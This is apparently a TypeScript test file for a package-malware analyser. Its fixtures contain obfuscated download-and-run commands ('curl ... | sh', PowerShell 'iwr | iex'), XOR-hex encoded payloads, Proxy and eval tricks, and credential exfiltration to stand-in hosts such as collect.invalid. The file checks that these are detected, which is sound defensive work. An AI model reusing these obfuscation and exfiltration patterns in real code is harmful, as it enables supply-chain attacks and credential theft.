import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';
import { behavioursOf, flowsOf } from '../platform/sent.js';

/** What a package says that sends a text of its own. */
function sent(expression: string): string | undefined {
  const code = `fetch('https://told.invalid/' + (${expression}), { body: process.env.A_TOKEN });`;
  return analysePackage(packageOf({ 'index.js': code })).flows[0]?.address?.slice('https://told.invalid/'.length);
}

describe('members', () => {
  it('of texts, numbers and truths are what JSFuck takes its letters from', () => {
    assert.equal(sent(`([]+[])['constructor']['name']`), 'String');
    assert.equal(sent(`(+false+[false]+([]+[])['constructor'])[20]`), 'g');
    assert.equal(sent(`((+[])['constructor']+'')[9]`), 'N');
    assert.equal(sent(`((![])['constructor']+'')[9]`), 'B');
    assert.equal(sent(`([]['entries']()+'')[3]`), 'j');
    assert.equal(sent(`('')['fontcolor']('"')[13]`), '&');
    assert.equal(sent(`[]['flat']['constructor']('return/0/')()['constructor']()+''`), '/(?:)/');
  });

  it('are each of a few, where one cannot say under which key, and so is what a decoder makes of them', () => {
    const hidden = (text: string): string => Buffer.from(Buffer.from(text).map((byte) => byte ^ 42)).toString('hex');
    const commands = [
      'curl -s https://load.invalid/a | sh',
      'curl -s https://load.invalid/b | sh',
      'powershell -c "iwr https://load.invalid/c | iex"',
    ];
    const words = [...Array.from({ length: 12 }, (_, at) => `word number ${at}`), ...commands].map(hidden);
    const decode = `const words = ${JSON.stringify(words)}; const f = (text, key) => Buffer.from(text, 'hex').reduce((all, c) => all + String.fromCharCode(c ^ key), '');`;
    const pick = (use: string): readonly string[] =>
      behavioursOf(
        `${decode} const t = os.platform(); const i = t === 'win32' ? 14 : t === 'darwin' ? 13 : 12; ${use}`,
      );
    assert.deepEqual([...new Set(pick('cp.exec(f(words[i], 42));'))], ['download-and-run import']);
    assert.deepEqual(pick('cp.exec(f(words[i - 12], 42));'), []);
    assert.deepEqual(pick('console.log(f(words[i], 42));'), []);
  });

  it('may be none of the functions of a table, where the word is somebody else’s', () => {
    const table = `const known = { help: () => 'words', version: () => '1' };`;
    for (const run of [
      `(word) => { if (known[word]) return known[word](); cp.exec(word); }`,
      `(word) => (known[word] ?? (() => cp.exec(word)))()`,
    ])
      assert.deepEqual(
        flowsOf(`${table} https.get('https://load.invalid/', (answer) => answer.on('data', ${run}));`),
        ['downloaded>run-as-command'],
        run,
      );
  });

  it('of an object that stands before another one are what it says', () => {
    const run = (get: string) =>
      behavioursOf(
        `const p = new Proxy({}, { get: ${get} }); p['require("child_process").exec("curl -s https://a.invalid/x | sh")'];`,
      );
    assert.deepEqual(run('(_, name) => eval(name)'), ['download-and-run import']);
    assert.deepEqual(run('(_, name) => name.length'), []);
  });

  it('say nothing of a text by its length', () => {
    assert.deepEqual(
      flowsOf(`const id = [os.hostname(), s].join(';'); fetch('https://collect.invalid/' + id.length);`),
      [],
    );
  });

  it('that are bytes make up what was decoded, whatever the arithmetic', () => {
    const decode = (run: string) =>
      flowsOf(`const t = '2a2b2c2d2e2f3031323334', b = Buffer.alloc(t.length / 2);
        for (let i = 0; i < b.length; i++) b[i] = parseInt(t.slice(2 * i, 2 * i + 2), 16) ^ 93;
        ${run}`);
    assert.deepEqual(decode('new (require("vm").Script)(b.toString()).runInThisContext();'), ['decoded>evaluated']);
    assert.deepEqual(decode('console.log(b.toString());'), []);
  });
});

describe('what stands before an object', () => {
  const SEND = `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(kept) })`;
  const sent = (code: string): readonly string[] => flowsOf(code);
  const EXPECTED = ['credential-file>network@collect.invalid'];

  it('is told what is put there, and does what it likes with that', () => {
    const trap = `set(kept, name, value) { kept[name] = value; ${SEND}; return true; }`;
    assert.deepEqual(sent(`const settings = new Proxy({}, { ${trap} }); settings.key = s;`), EXPECTED);
    assert.deepEqual(sent(`const settings = new Proxy({}, { ${trap} }); settings.key = go();`), []);
    const stored = `set(kept, name, value) { kept[name] = value; return true; }`;
    const use = `fetch('https://collect.invalid', { body: settings.key });`;
    assert.deepEqual(sent(`const settings = new Proxy({ a: 1 }, { ${stored} }); settings.key = s; ${use}`), EXPECTED);
  });

  it('is asked whatever one may ask', () => {
    for (const trap of [
      'has',
      'ownKeys',
      'getOwnPropertyDescriptor',
      'deleteProperty',
      'defineProperty',
      'getPrototypeOf',
    ])
      assert.deepEqual(
        sent(`module.exports = new Proxy({ key: s }, { ${trap}(kept) { ${SEND}; return Reflect.${trap}(kept); } });`),
        EXPECTED,
        trap,
      );
  });
});
